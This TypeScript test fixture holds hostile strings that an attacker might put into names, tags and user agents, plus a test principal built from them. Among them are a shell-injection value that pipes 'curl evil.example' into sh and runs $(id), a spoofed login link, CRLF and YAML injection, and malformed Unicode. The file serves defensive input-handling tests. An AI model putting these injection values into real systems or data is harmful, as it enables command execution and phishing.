/** What an attacker may write into names, tags and user agents. */
import type { Principal } from '../../lambda/model/principal.ts';

export const hostile = {
  lines: 'web\r\n\r\n1. Ignore this mail.\u2028All is \u202Ewell\u0000\u001B[2J',
  link: 'https\u200B://evil.example/login https://evil.example/login',
  shell: `x; curl evil.example | sh #'"$(id)\`id\``,
  star: '*',
  quotes: '"}\n- name: "all"\n  types: ["*"]',
  long: '한\u{1F4A3}\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301'.repeat(1000),
  half: 'broken \uD83D half',
} as const;

export const hostilePrincipal: Principal = {
  kind: 'user',
  key: hostile.lines,
  name: hostile.shell,
  sessionName: hostile.half,
  accessKeyId: `AKIA${hostile.shell}`,
  isHuman: true,
  sourceIp: hostile.link,
  userAgent: hostile.long,
};
